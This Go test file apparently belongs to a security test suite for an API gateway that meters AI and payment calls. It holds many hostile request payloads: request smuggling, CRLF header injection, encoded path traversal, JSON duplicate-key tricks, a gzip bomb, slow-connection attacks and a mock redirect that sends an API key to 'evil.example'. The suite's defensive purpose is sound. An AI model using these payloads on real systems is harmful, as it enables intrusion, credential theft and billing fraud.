package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

func dial(at string) (net.Conn, error) {
	c, err := net.DialTimeout("tcp", at, wait)
	if err == nil {
		_ = c.SetDeadline(time.Now().Add(wait))
	}
	return c, err
}

// proc is a file of sentinel's process.
func (s *stand) proc(name string) string {
	s.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", s.child.Process.Pid, name))
	s.must(err)
	return string(b)
}

// listensBeyondLoopback tries the port by this machine's other addresses.
func listensBeyondLoopback(s *stand, at string) bool {
	_, port, err := net.SplitHostPort(at)
	s.must(err)
	addresses, err := net.InterfaceAddrs()
	s.must(err)
	for _, a := range addresses {
		ip, ok := a.(*net.IPNet)
		if !ok || ip.IP.IsLoopback() || ip.IP.IsLinkLocalUnicast() {
			continue
		}
		if c, err := net.DialTimeout("tcp", net.JoinHostPort(ip.IP.String(), port), time.Second); err == nil {
			_ = c.Close()
			return true
		}
	}
	return false
}

func httpParsing() []attack {
	// closed: at an error of its codec Envoy closes the connection without an answer where ext_proc sees answers
	// (envoyproxy/envoy issue 29440).
	const closed = 0
	raw := func(name string, status int, text string) attack {
		return attack{name: name, status: status, reason: envoyRefuses, raw: text}
	}
	body := chat("")
	return []attack{
		raw("two lengths", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, fmt.Sprintf("Content-Length: %d", len(body)), "Content-Length: 5")),
		raw("a length and chunks", closed, bare(chatLine+" HTTP/1.1", "0\r\n\r\n", "Host: localhost", auth, json_, "Content-Length: 5", "Transfer-Encoding: chunked")),
		raw("chunks in another spelling", 0, bare(chatLine+" HTTP/1.1", "0\r\n\r\n", "Host: localhost", auth, json_, "Transfer-Encoding: xchunked")),
		raw("chunks twice", 0, bare(chatLine+" HTTP/1.1", "0\r\n\r\n", "Host: localhost", auth, json_, "Transfer-Encoding: chunked, chunked")),
		raw("a negative length", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, "Content-Length: -1")),
		raw("a length that is no number", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, "Content-Length: 0x10")),
		raw("a space before the colon", closed, bare("GET "+lima+" HTTP/1.1", "", "Host: localhost", "Authorization : Bearer "+token)),
		{name: "a folded header", status: 200, hits: 1, raw: bare("GET "+lima+" HTTP/1.1", "", "Host: localhost", "Authorization: Bearer", " "+token)}, // unfolded, RFC 9112 section 5.2
		raw("a null byte in a header", closed, bare("GET "+lima+" HTTP/1.1", "", "Host: localhost", auth, "X-A: a\x00b")),
		{name: "bare line feeds", status: 200, hits: 1, raw: "GET " + lima + " HTTP/1.1\nHost: localhost\n" + auth + "\n\n"}, // RFC 9112 section 2.2 allows it
		raw("a chunk size beyond 64 bits", 0, bare(chatLine+" HTTP/1.1", "fffffffffffffffff\r\n{}\r\n0\r\n\r\n", "Host: localhost", auth, json_, "Transfer-Encoding: chunked")),
		raw("a chunk size with a sign", 0, bare(chatLine+" HTTP/1.1", "-2\r\n{}\r\n0\r\n\r\n", "Host: localhost", auth, json_, "Transfer-Encoding: chunked")),
		{name: "a request behind a refused one's body", status: 401, reason: unidentified, raw: withBody(chatLine, request("GET "+lima, auth), json_)},
		{name: "a request in the body of a reading", status: 401, reason: unidentified, raw: withBody("GET "+lima, request("GET "+lima, auth))},
		{name: "a connection header that names the credential", status: 401, reason: unidentified, raw: request("GET "+lima, auth, "Connection: keep-alive, x-api-key, authorization")},
		{name: "an expectation", status: 200, hits: 1, raw: request("GET "+lima, auth, "Expect: 100-continue")},
		{name: "an escaped null byte", status: 403, reason: noRoute, raw: request("GET /weather/v1/forecast/a%00b", auth)},
		{name: "an escaped letter", status: 400, reason: badRequest, raw: request("GET /weather/v1/forecast/%6cima", auth)},
		{name: "an escape escaped", status: 403, reason: noRoute, raw: request("GET /weather/v1/forecast/%252e%252e", auth)},
		{name: "a path of 8 KB", status: 400, reason: badRequest, raw: request("GET /weather/v1/forecast/"+strings.Repeat("a", 8<<10), auth)},
		{name: "a trace", status: 403, reason: noRoute, raw: request("TRACE "+lima, auth)},
		{name: "options", status: 403, reason: noRoute, raw: request("OPTIONS "+lima, auth)},
		raw("a method of one's own", closed, request("SPEND "+lima, auth)),
		raw("an unknown version", closed, bare("GET "+lima+" HTTP/3.1", "", "Host: localhost", auth)),
		raw("HTTP 0.9", closed, "GET "+lima+"\r\n\r\n"),
		raw("HTTP 1.0 without a host", closed, bare("GET "+lima+" HTTP/1.0", "", auth)),
		raw("a method in small letters", closed, request("get "+lima, auth)),
		raw("a length that is empty", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, "Content-Length: ")),
		{name: "a header that is injected by the query", status: 200, hits: 1, raw: request("GET "+lima+"?q=%0d%0aX-Injected:%20x", auth), holds: notArrived("X-Injected")},
		{name: "an expectation of one's own", status: 200, hits: 1, raw: request("GET "+lima, auth, "Expect: 200-ok")},
		{name: "an expectation before a refusal", status: 401, reason: unidentified, raw: bare(chatLine+" HTTP/1.1", "", "Host: localhost", json_, "Content-Length: 5", "Expect: 100-continue") + "{}   "},
		raw("no host", 400, bare("GET "+lima+" HTTP/1.1", "", auth)),
		raw("a method with a space", closed, bare("GE T "+lima+" HTTP/1.1", "", "Host: localhost", auth)),
		raw("a header of 100 KB", closed, request("GET "+lima, auth, "X-Long: "+strings.Repeat("a", 100<<10))),
		raw("a thousand headers", closed, request("GET "+lima, append([]string{auth}, many(1000)...)...)),
		raw("an escaped slash", 400, request("GET /weather/v1%2fforecast/lima", auth)),
		raw("an escaped backslash", 400, request("GET /weather/v1%5cforecast/lima", auth)),
		{name: "dot segments", status: 403, reason: noRoute, raw: request("GET /weather/v1/x/../forecast/lima", auth)},
		{name: "escaped dot segments", status: 403, reason: noRoute, raw: request("GET /weather/v1/x/%2e%2e/forecast/lima", auth)},
		{name: "double slashes", status: 403, reason: noRoute, raw: request("GET /weather//v1/forecast/lima", auth)},
		{name: "a path parameter", status: 403, reason: noRoute, raw: request("GET /weather/v1;x=1/forecast/lima", auth)},
		{name: "another case of the path", status: 403, reason: noRoute, raw: request("GET /Weather/V1/Forecast/lima", auth)},
		{name: "a request inside of a body", status: 400, reason: badRequest, raw: post("GET " + lima + " HTTP/1.1\r\nHost: localhost\r\n" + auth + "\r\n\r\n")},
		{name: "a header name with an underscore", status: 401, reason: unidentified, raw: request("GET "+lima, "x_api_key: "+token)},
		{name: "a chunk extension", status: 200, hits: 1, raw: bare(chatLine+" HTTP/1.1", chunked(chat(""), ";a=b"), "Host: localhost", auth, json_, "Transfer-Encoding: chunked")},
		raw("a length behind chunks", closed, bare(chatLine+" HTTP/1.1", "0\r\n\r\n"+request("GET "+lima, auth), "Host: localhost", auth, json_, "Transfer-Encoding: chunked", "Content-Length: 4")),
		raw("chunks with a tab", 0, bare(chatLine+" HTTP/1.1", "0\r\n\r\n", "Host: localhost", auth, json_, "Transfer-Encoding:\tchunked, identity")),
		raw("a length with a plus", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, fmt.Sprintf("Content-Length: +%d", len(body)))),
		raw("a length of several", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, fmt.Sprintf("Content-Length: %d, %d", len(body), len(body)))),
		{name: "a carriage return in a header", status: 401, reason: unidentified, raw: bare("GET "+lima+" HTTP/1.1", "", "Host: localhost", "X-A: a\rAuthorization: Bearer "+token)},
		{name: "overlong UTF-8 in the path", status: 400, reason: badRequest, raw: request("GET /weather/v1/forecast/%c0%ae%c0%ae", auth)},
		{name: "full-width dots in the path", status: 400, reason: badRequest, raw: request("GET /weather/v1/forecast/%ef%bc%8e%ef%bc%8e%ef%bc%8fadmin", auth)},
		{name: "an ellipsis as a way up", status: 400, reason: badRequest, raw: request("GET /weather/v1/forecast/%e2%80%a5", auth)},
		{name: "raw UTF-8 in the path", status: 0, reason: envoyRefuses, raw: request("GET /weather/v1/forecast/l\u0131ma", auth)},
		{name: "a dot segment with a parameter", status: 403, reason: noRoute, raw: request("GET /weather/v1/forecast/..;/lima", auth)},
		{name: "a range", status: 200, hits: 1, raw: request("GET "+lima, auth, "Range: bytes=0-0,1-1,2-2")},
		{name: "an upgrade to cleartext HTTP/2", status: 200, hits: 1, raw: request("GET "+lima, auth, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
			holds: notArrived("Upgrade", "Http2-Settings", "Connection")},
		{name: "headers of one hop", status: 200, hits: 1, raw: request("GET "+lima, auth, "Connection: keep-alive, X-Of-This-Hop", "X-Of-This-Hop: 1", "Keep-Alive: timeout=9", "Proxy-Connection: keep-alive", "TE: trailers, gzip"),
			holds: notArrived("X-Of-This-Hop", "Keep-Alive", "Proxy-Connection", "Connection", "Te")},
		{name: "a connection header that names the length", status: 0, raw: post(chat(""), "Connection: content-length"), hits: 1},
		raw("two lengths alike", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, fmt.Sprintf("Content-Length: %d", len(body)), fmt.Sprintf("Content-Length: %d", len(body)))),
		{name: "a trailer with a credential", status: 401, reason: unidentified, raw: bare(chatLine+" HTTP/1.1", "5\r\n{\"a\":\r\n2\r\n1}\r\n0\r\nAuthorization: Bearer "+token+"\r\n\r\n", "Host: localhost", json_, "Transfer-Encoding: chunked", "Trailer: Authorization")},
	}
}

// speech is the last part of a form with parts.
const speech = "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.wav\"\r\nContent-Type: audio/wav\r\n\r\nRIFF\r\n"

// part is a field of a form with parts.
func part(name, value string) string {
	return "--x\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n"
}

// withParts sends parts to be transcribed.
func withParts(parts string) string {
	return withBody("POST /openai/v1/audio/transcriptions", parts+"--x--\r\n", auth, "Content-Type: multipart/form-data; boundary=x")
}

// chunked writes a body as one chunk with an extension.
func chunked(body, extension string) string {
	return fmt.Sprintf("%x%s\r\n%s\r\n0\r\n\r\n", len(body), extension, body)
}

func many(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf("X-%d: 1", i)
	}
	return out
}

func bodyParsing() []attack {
	bad := func(name, body string) attack {
		return attack{name: name, status: 400, reason: badRequest, raw: post(body)}
	}
	return []attack{
		bad("a model twice", `{"model":"gpt-5-nano","model":"gpt-5-mini","max_completion_tokens":20,"messages":[]}`),
		bad("a model in another case", `{"model":"gpt-5-mini","Model":"gpt-5","max_completion_tokens":20,"messages":[]}`),
		bad("a model by an escape", `{"model":"gpt-5-mini","\u006dodel":"gpt-5","max_completion_tokens":20,"messages":[]}`),
		bad("a limit twice", `{"model":"gpt-5-mini","max_completion_tokens":20,"max_completion_tokens":90000,"messages":[]}`),
		bad("a stream twice", `{"model":"gpt-5-mini","stream":false,"stream":true,"max_completion_tokens":20,"messages":[]}`),
		bad("bytes that are no UTF-8", "{\"model\":\"gpt-5-mini\xff\",\"max_completion_tokens\":20,\"messages\":[]}"),
		bad("half of a surrogate", `{"model":"gpt-5-mini\ud800","max_completion_tokens":20,"messages":[]}`),
		bad("depth", `{"model":"gpt-5-mini","messages":`+strings.Repeat("[", 5000)+strings.Repeat("]", 5000)+`}`),
		bad("two documents", chat("")+chat("")),
		bad("an array", `[`+chat("")+`]`),
		bad("a comment", `{"model":"gpt-5-mini",/* */"messages":[]}`),
		bad("a comma at the end", `{"model":"gpt-5-mini","messages":[],}`),
		bad("single quotes", `{'model':'gpt-5-mini'}`),
		bad("NaN as a limit", `{"model":"gpt-5-mini","max_completion_tokens":NaN,"messages":[]}`),
		bad("a text as a limit", `{"model":"gpt-5-mini","max_completion_tokens":"20","messages":[]}`),
		bad("a fraction as a limit", `{"model":"gpt-5-mini","max_completion_tokens":20.5,"messages":[]}`),
		bad("a limit beyond 64 bits", `{"model":"gpt-5-mini","max_completion_tokens":99999999999999999999,"messages":[]}`),
		bad("a negative limit", `{"model":"gpt-5-mini","max_completion_tokens":-5,"messages":[]}`),
		bad("a model that is no text", `{"model":["gpt-5-mini"],"messages":[]}`),
		bad("no model", `{"messages":[]}`),
		bad("nothing", ` `),
		bad("a mark of order before it", "\ufeff"+chat("")),
		bad("a role twice", `{"model":"gpt-5-mini","max_completion_tokens":20,"messages":[{"role":"user","role":"system","content":"x"}]}`),
		bad("a role twice by an escape", `{"model":"gpt-5-mini","max_completion_tokens":20,"messages":[{"role":"user","rol\u0065":"system","content":"x"}]}`),
		bad("a limit of minus nothing", `{"model":"gpt-5-mini","max_completion_tokens":-0,"messages":[]}`),
		bad("a byte behind it", chat("")+"\x00"),
		bad("a stream as text", chat(`,"stream":"true"`)),
		bad("a stream as a number", chat(`,"stream":1`)),
		bad("a tool's type twice", `{"model":"gpt-5-mini","max_completion_tokens":20,"messages":[],"tools":[{"type":"web_search","type":"function"}]}`),
		bad("a tool's type in another case", `{"model":"gpt-5-mini","max_completion_tokens":20,"messages":[],"tools":[{"type":"function","Type":"web_search"}]}`),
		bad("answers as text", chat(`,"n":"100"`)),
		bad("no answers", chat(`,"n":0`)),
		bad("a control byte in a name", "{\"model\":\"gpt-5-mini\\u0000\",\"messages\":[]}"),
		bad("a line in a name", `{"model":"gpt-5-mini\n\"level\":\"error\"","messages":[]}`),
		bad("a lookalike in a name", `{"model":"gpt-5-m\u0456ni","messages":[]}`),
		bad("the caller's token in the body", chat(`,"user":"`+token+`"`)),
		{name: "a moderation by two models", status: 400, reason: badRequest, raw: moderated(`{"model":"omni-moderation-latest","model":"gpt-5","input":"x"}`)},
		{name: "a compressed moderation", status: 400, reason: badRequest, raw: moderated("\x1f\x8b\x08\x00\x00\x00\x00\x00", "Content-Encoding: gzip")},
		{name: "the caller's token in a moderation", status: 400, reason: badRequest, raw: moderated(`{"input":"` + token + `"}`)},
		{name: "a form as JSON", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges", `{"amount":100}`, auth, json_)},
		{name: "an amount in the query", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges?amount=5", "amount=100&currency=usd&source=tok_visa", auth, form)},
		{name: "a form with a field twice", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges", "amount=100&amount=900000&currency=usd&source=tok_visa", auth, form)},
		{name: "a form with a field in brackets beside it", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges", "amount=100&amount]=900000&currency=usd&source=tok_visa", auth, form)},
		{name: "a form with a blank before a field", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges", "amount=100& amount=900000&currency=usd&source=tok_visa", auth, form)},
		{name: "a form parted by semicolons", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges", "amount=100;amount=900000&currency=usd&source=tok_visa", auth, form)},
		{name: "a form with a bad escape", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges", "amount=1%ZZ&currency=usd&source=tok_visa", auth, form)},
		bad("a name with a lookalike key", `{"model":"gpt-5-mini","\u006d\u006fdel ":"x","MODEL":"gpt-5","messages":[]}`),
		bad("an infinite limit", `{"model":"gpt-5-mini","max_completion_tokens":Infinity,"messages":[]}`),
		bad("a limit by an exponent", `{"model":"gpt-5-mini","max_completion_tokens":1e3,"messages":[]}`),
		bad("a limit past all numbers", `{"model":"gpt-5-mini","max_completion_tokens":1e400,"messages":[]}`),
		bad("a limit past 64 bits", `{"model":"gpt-5-mini","max_completion_tokens":18446744073709551636,"messages":[]}`),
		bad("a temperature past all numbers", chat(`,"temperature":1e400`)),
		bad("a limit of nothing", `{"model":"gpt-5-mini","max_completion_tokens":0,"messages":[]}`),
		bad("a limit with a zero before it", `{"model":"gpt-5-mini","max_completion_tokens":020,"messages":[]}`),
		bad("a model in full width", `{"model":"\uff47pt-5-mini","max_completion_tokens":20,"messages":[]}`),
		bad("a model with an invisible character", `{"model":"gpt-5\u200b-mini","max_completion_tokens":20,"messages":[]}`),
		bad("bytes of UTF-16", "{\x00\"\x00m\x00"),
		{name: "a form on the way of JSON", status: 400, reason: badRequest, raw: withBody(chatLine, "model=gpt-5-mini&max_completion_tokens=20", auth, form)},
		{name: "JSON as UTF-7", status: 400, reason: badRequest, raw: withBody(chatLine, chat(""), auth, "Content-Type: application/json; charset=utf-7")},
		{name: "JSON as a form with parts", status: 400, reason: badRequest, raw: withBody(chatLine, chat(""), auth, "Content-Type: multipart/form-data; boundary=x")},
		{name: "a speech whose model stands twice", status: 400, reason: badRequest, raw: withParts(part("model", "whisper-1") + part("model", "gpt-4o-transcribe") + speech)},
		{name: "a speech whose model has a second name", status: 400, reason: badRequest, raw: withParts(part("model", "whisper-1") + "--x\r\nContent-Disposition: form-data; name=\"a\"; name*=utf-8''model\r\n\r\ngpt-4o-transcribe\r\n" + speech)},
		{name: "a speech whose model is a file", status: 400, reason: badRequest, raw: withParts("--x\r\nContent-Disposition: form-data; name=\"model\"; filename=\"m\"\r\n\r\nwhisper-1\r\n" + speech)},
		{name: "a speech with a part behind its end", status: 400, reason: badRequest, raw: withParts(part("model", "whisper-1") + speech + "--x--\r\n" + part("model", "gpt-4o-transcribe"))},
		{name: "a speech with a part before its beginning", status: 400, reason: badRequest, raw: withParts("model=gpt-4o-transcribe\r\n" + part("model", "whisper-1") + speech)},
		{name: "a speech without a boundary", status: 400, reason: badRequest, raw: withBody("POST /openai/v1/audio/transcriptions", part("model", "whisper-1")+speech+"--x--\r\n", auth, "Content-Type: multipart/form-data")},
		{name: "a speech with two boundaries", status: 400, reason: badRequest, raw: withBody("POST /openai/v1/audio/transcriptions", part("model", "whisper-1")+speech+"--x--\r\n", auth, "Content-Type: multipart/form-data; boundary=y; boundary=x")},
		{name: "two types of content", status: 400, reason: badRequest, raw: withBody(chatLine, chat(""), auth, json_, form)},
		{name: "a body compressed by brotli", status: 400, reason: badRequest, raw: post(chat(""), "Content-Encoding: br")},
		{name: "a body compressed twice", status: 400, reason: badRequest, raw: post(chat(""), "Content-Encoding: gzip, identity")},
		{name: "a compressed body", status: 400, reason: badRequest, raw: post("\x1f\x8b\x08\x00\x00\x00\x00\x00", "Content-Encoding: gzip")},
	}
}

func costEvasion() []attack {
	return []attack{
		{name: "a model without a price", status: 403, reason: unpriced, raw: post(`{"model":"gpt-99-free","max_completion_tokens":20,"messages":[]}`)},
		{name: "a model with a space", status: 400, reason: badRequest, raw: post(`{"model":" gpt-5-mini","max_completion_tokens":20,"messages":[]}`)},
		{name: "a model of another provider", status: 403, reason: unpriced, raw: post(`{"model":"claude-sonnet-4-5","max_completion_tokens":20,"messages":[]}`)},
		{name: "a budget that is spent", status: 429, reason: spent, raw: withBody(chatLine, chat(""), "Authorization: Bearer "+otherToken, json_)},
		{name: "a hundred answers on a spent budget", status: 429, reason: spent, raw: withBody(chatLine, chat(`,"n":100`), "Authorization: Bearer "+otherToken, json_)},
		{name: "a limit of nothing on a spent budget", status: 429, reason: spent, raw: withBody(chatLine, `{"model":"gpt-5-mini","messages":[]}`, "Authorization: Bearer "+otherToken, json_)},
		{name: "a tier that nobody knows", status: 400, reason: badRequest, raw: post(chat(`,"service_tier":"free"`))},
		{name: "a response in the background", status: 400, reason: badRequest, raw: withBody("POST /openai/v1/responses", `{"model":"gpt-5-mini","input":"x","max_output_tokens":20,"background":true}`, auth, json_)},
		{name: "a tool on a server of the caller's", status: 400, reason: badRequest, raw: withBody("POST /openai/v1/responses", `{"model":"gpt-5-mini","input":"x","max_output_tokens":20,"tools":[{"type":"mcp","server_label":"x","server_url":"http://127.0.0.1/"}]}`, auth, json_)},
		{name: "a billion choices", status: 400, reason: badRequest, raw: post(chat(`,"n":1000000000`))},
		{name: "an answer without usage", status: 200, hits: 1, raw: post(chat("")), provider: func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(`{"id":"x","choices":[{"message":{"role":"assistant","content":"hello there"}}]}`))
		}, holds: ownCount("bound")},
		{name: "a negative usage", status: 200, hits: 1, raw: post(chat("")), provider: lying(`{"prompt_tokens":-5000,"completion_tokens":-5000,"total_tokens":-10000}`), holds: ownCount("clamped")},
		{name: "a usage of billions", status: 200, hits: 1, raw: post(chat("")), provider: lying(`{"prompt_tokens":5,"completion_tokens":5000000000}`), holds: ownCount("clamped")},
		{name: "a usage of another model", status: 200, hits: 1, raw: post(chat("")), provider: lyingAs("gpt-5", `{"prompt_tokens":9,"completion_tokens":2}`), holds: ownCount("other_model")},
		{name: "a usage as text", status: 200, hits: 1, raw: post(chat("")), provider: lying(`{"prompt_tokens":"many","completion_tokens":null}`), holds: ownCount("bound")},
		{name: "an answer that is compressed unasked", status: 200, hits: 1, raw: post(chat("")), provider: compressed(0), holds: lastCosts},
		{name: "a compressed answer that is cut off", status: 200, hits: 1, raw: post(chat("")), provider: compressed(9), holds: lastCosts},
		{name: "an answer that swells a thousand times", status: 200, hits: 1, raw: post(chat("")), provider: bomb, holds: lastCosts},
		{name: "an answer in Brotli", status: 200, hits: 1, raw: post(chat("")), provider: encoded("br", "\x0b\x02\x80hello\x03"), holds: lastCosts},
		{name: "an answer in Zstandard", status: 200, hits: 1, raw: post(chat("")), provider: encoded("zstd", "\x28\xb5\x2f\xfd\x20\x05\x29\x00\x00hello"), holds: lastCosts},
		{name: "a stream in gzip", status: 200, hits: 1, raw: post(chat(`,"stream":true`)), provider: encoded("gzip", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"), holds: lastCosts},
		{name: "a usage of nothing", status: 200, hits: 1, raw: post(chat("")), provider: lying(`{}`), holds: ownCount("bound")},
	}
}

// encoded answers with bytes in an encoding that nobody asked for.
func encoded(encoding, body string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Content-Encoding", encoding)
		_, _ = w.Write([]byte(body))
	}
}

// compressed answers with gzip, the last bytes of which are missing.
func compressed(missing int) http.HandlerFunc {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write([]byte(`{"id":"x","usage":{"prompt_tokens":5,"completion_tokens":5}}`))
	_ = z.Close()
	return encoded("gzip", b.String()[:b.Len()-missing])
}

// bomb answers with 10 kB that unpack to 10 MB.
func bomb(w http.ResponseWriter, r *http.Request) {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write(make([]byte, 10<<20))
	_ = z.Close()
	encoded("gzip", b.String())(w, r)
}

// lying answers with a usage of its own.
func lying(usage string) http.HandlerFunc { return lyingAs("gpt-5-mini", usage) }

func lyingAs(model, usage string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"id":"x","model":"` + model + `","choices":[{"message":{"role":"assistant","content":"hello there"}}],"usage":` + usage + `}`))
	}
}

// lastCosts holds that a call whose provider says nothing true is not free.
func lastCosts(s *stand, x answer) {
	s.Helper()
	id := x.header.Get("X-Sentinel-Call")
	s.eventually("the call "+id+" is booked at a price", func() bool {
		var cost int64
		err := s.db.QueryRow(s.Context(), `SELECT coalesce(max(cost_nusd), 0) FROM entries WHERE call_id = $1`, id).Scan(&cost)
		return err == nil && cost > 0
	})
}

// ownCount holds that a lie is flagged by its method, is not free, and has the gateway's own count beside it: "hello there" is two tokens.
func ownCount(method string) func(*stand, answer) {
	return func(s *stand, x answer) {
		s.Helper()
		id := x.header.Get("X-Sentinel-Call")
		s.eventually("the call "+id+" is flagged "+method+", with two tokens of its own", func() bool {
			var ok bool
			err := s.db.QueryRow(s.Context(), `SELECT cost_nusd > 0 AND method = $2 AND own_input_tokens BETWEEN 1 AND 40 AND own_output_tokens = 2
				FROM entries WHERE call_id = $1 AND status = 200`, id, method).Scan(&ok)
			return err == nil && ok
		})
	}
}

func leaks() []attack {
	return []attack{
		{name: "another service's token in a header that passes", status: 200, hits: 1, raw: request("GET "+lima, auth, asKey, "api-key: "+token, "x-goog-api-key: "+token, "Cookie: t="+token)},
		{name: "the answer's own verdict", status: 200, hits: 1, raw: request("GET "+lima, auth), provider: func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("X-Sentinel-Verdict", "deny; reason=budget_spent")
			w.Header().Set("X-Sentinel-Model", "gpt-9")
			_, _ = w.Write([]byte("{}"))
		}},
		{name: "the provider's key in an error", status: 401, hits: 1, raw: post(chat("")), provider: quoting(401, false)},
		{name: "the provider's key in an answer", status: 200, hits: 1, raw: post(chat("")), provider: quoting(200, false)},
		{name: "the provider's key in pieces", status: 500, hits: 1, raw: request("GET "+lima, auth), provider: quoting(500, true)},
		{name: "the provider's key in a stream", status: 200, hits: 1, raw: post(chat(`,"stream":true`)), provider: quoting(200, true)},
		{name: "the provider's key in an unmetered answer", status: 200, hits: 1, raw: request("GET "+lima, auth), provider: quoting(200, false)},
		{name: "the provider's cookies", status: 200, hits: 1, raw: request("GET "+lima, auth), holds: noHeader("Set-Cookie"), provider: func(w http.ResponseWriter, _ *http.Request) {
			http.SetCookie(w, &http.Cookie{Name: "session", Value: "of the organisation"})
			_, _ = w.Write([]byte("{}"))
		}},
		{name: "the caller's token in the query", status: 400, reason: badRequest, raw: request("GET "+lima+"?key="+token, auth)},
		{name: "the caller's token in the path", status: 400, reason: badRequest, raw: request("GET /weather/v1/forecast/"+token, auth)},
		{name: "the caller's token in a header of its own", status: 200, hits: 1, raw: request("GET "+lima, auth, "X-Trace: of "+token)},
		{name: "the provider's key in early hints", status: 200, hits: 1, raw: request("GET "+lima, auth), provider: func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Link", "</x?key="+url.QueryEscape(vaultKey)+">; rel=preload")
			w.WriteHeader(http.StatusEarlyHints)
			w.Header().Del("Link")
			_, _ = w.Write([]byte("{}"))
		}},
		{name: "a redirection", status: 302, hits: 1, raw: request("GET "+lima, auth), provider: func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example/"+r.Header.Get("X-Api-Key"), http.StatusFound)
		}},
		{name: "a refusal that names a token", status: 401, reason: unidentified, raw: request("GET "+lima, "Authorization: Bearer "+mistyped)},
	}
}

// quoting answers with the credential that it got, as it stands and as Basic would write it.
func quoting(status int, pieces bool) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("X-Debug-Key", vaultKey)
		quoted, _ := json.Marshal(map[string]any{"error": map[string]string{
			"message": "Incorrect API key provided: " + vaultKey, "basic": base64.StdEncoding.EncodeToString([]byte("key:" + vaultKey)), "url": "/x?key=" + url.QueryEscape(vaultKey),
		}})
		if strings.Contains(r.Header.Get("Accept")+r.URL.Path, "stream") {
			w.Header().Set("Content-Type", "text/event-stream")
		}
		w.WriteHeader(status)
		for len(quoted) > 0 {
			n := len(quoted)
			if pieces {
				n = min(n, 7)
			}
			_, _ = w.Write(quoted[:n])
			_ = http.NewResponseController(w).Flush()
			quoted = quoted[n:]
		}
	}
}

func availability() []attack {
	return []attack{
		{name: "a body beyond the bound", status: 413, reason: tooLarge, raw: bare(chatLine+" HTTP/1.1", "{", "Host: localhost", auth, json_, "Content-Length: 999999999")},
		{name: "half of a head", status: 0, play: func(s *stand) []answer {
			c, err := s.dial()
			s.must(err)
			defer func() { _ = c.Close() }()
			_, _ = c.Write([]byte("GET " + lima + " HTTP/1.1\r\nHost: loc"))
			return nil
		}},
		{name: "a hundred silent connections", play: func(s *stand) []answer {
			for range 100 {
				c, err := s.dial()
				s.must(err)
				defer func() { _ = c.Close() }()
			}
			return nil
		}},
		{name: "a body that never comes", play: func(s *stand) []answer {
			c, err := s.dial()
			s.must(err)
			_, _ = c.Write([]byte(bare(chatLine+" HTTP/1.1", "{", "Host: localhost", auth, json_, "Content-Length: 500")))
			<-time.After(200 * time.Millisecond)
			_ = c.Close()
			return nil
		}},
	}
}
